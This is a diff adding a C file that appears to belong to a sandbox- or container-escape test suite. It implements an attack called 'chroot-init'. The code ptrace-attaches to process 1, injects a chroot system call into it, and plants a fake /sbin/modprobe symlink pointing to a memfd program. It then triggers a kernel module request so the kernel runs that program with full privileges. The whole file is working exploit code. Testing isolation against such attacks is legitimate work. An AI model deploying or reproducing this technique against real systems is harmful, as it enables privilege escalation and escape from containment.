@@ -1,0 +1,108 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/*
+ * The kernel's threads share their root folder with process 1 (kernel/fork.c: CLONE_FS), and look there for the
+ * programs that they start. Who moves it says which program it is, and writes to none.
+ */
+#include <errno.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/user.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "guest.h"
+
+#define OTHER_ROOT "/tmp/other"
+
+#ifdef __x86_64__
+/* Has process 1, which is traced and stopped, make one system call with a path, and go on where it was. */
+static int call_in_init(long call, const char *path)
+{
+	struct user_regs_struct was, now;
+	unsigned long at;
+	long words[2] = { 0, 0 }, kept[2];
+	int status;
+
+	if (ptrace(PTRACE_GETREGS, 1, NULL, &was) < 0)
+		return errno;
+	memcpy(words, path, strlen(path));
+	at = (was.rsp - 1024) & ~15UL;
+	for (unsigned int i = 0; i < 2; i++) {
+		kept[i] = ptrace(PTRACE_PEEKDATA, 1, at + 8 * i, NULL);
+		(void)ptrace(PTRACE_POKEDATA, 1, at + 8 * i, words[i]);
+	}
+	now = was;
+	now.rip -= 2; /* the instruction "syscall" that it is in */
+	now.rax = (unsigned long)call;
+	now.orig_rax = -1UL; /* nothing is to be restarted */
+	now.rdi = at;
+	(void)ptrace(PTRACE_SETREGS, 1, NULL, &now);
+	(void)ptrace(PTRACE_SINGLESTEP, 1, NULL, NULL);
+	(void)waitpid(1, &status, __WALL);
+	(void)ptrace(PTRACE_GETREGS, 1, NULL, &now);
+	for (unsigned int i = 0; i < 2; i++)
+		(void)ptrace(PTRACE_POKEDATA, 1, at + 8 * i, kept[i]);
+	(void)ptrace(PTRACE_SETREGS, 1, NULL, &was);
+	return (long)now.rax < 0 ? -(int)now.rax : 0;
+}
+
+static const char *prepare_root(void)
+{
+	int err = make_program_without_path();
+
+	if (err)
+		return missing("a memfd", err);
+	(void)mkdir(OTHER_ROOT, 0755);
+	(void)mkdir(OTHER_ROOT "/sbin", 0755);
+	(void)mkdir(OTHER_ROOT "/proc", 0755);
+	(void)mkdir(OTHER_ROOT "/guest", 0755);
+	(void)unlink(OTHER_ROOT "/sbin/modprobe");
+	if (symlink(program_without_path(), OTHER_ROOT "/sbin/modprobe") < 0 ||
+	    (link(ESCAPEE_PROGRAM, OTHER_ROOT ESCAPEE) < 0 && errno != EEXIST))
+		return missing(OTHER_ROOT, errno);
+	if (mount("proc", OTHER_ROOT "/proc", "proc", 0, NULL) < 0)
+		return missing(OTHER_ROOT "/proc", errno);
+	return NULL;
+}
+
+/* Its working directory stays outside of the other root, and so leads back. */
+static int run_chroot_init(void)
+{
+	int status, err;
+
+	if (ptrace(PTRACE_ATTACH, 1, NULL, NULL) < 0)
+		err = errno;
+	else if (waitpid(1, &status, __WALL) != 1)
+		err = ECHILD;
+	else
+		err = call_in_init(SYS_chroot, OTHER_ROOT);
+	if (!err)
+		err = ask_for_module("attack-root");
+	(void)usleep(200 * 1000);
+	(void)call_in_init(SYS_chroot, ".");
+	(void)ptrace(PTRACE_DETACH, 1, NULL, NULL);
+	(void)umount2(OTHER_ROOT "/proc", MNT_DETACH);
+	return err;
+}
+#else
+static const char *prepare_root(void)
+{
+	return NULL;
+}
+
+static int run_chroot_init(void)
+{
+	return impossible(ENOSYS, "written for amd64 only");
+}
+#endif
+
+const struct attack root_attacks[] = {
+	{ "chroot-init", "call_modprobe(): the root folder of process 1", prepare_root,
+	  run_chroot_init, WAITS | SHARED_MOUNTS },
+	{ .name = NULL },
+};
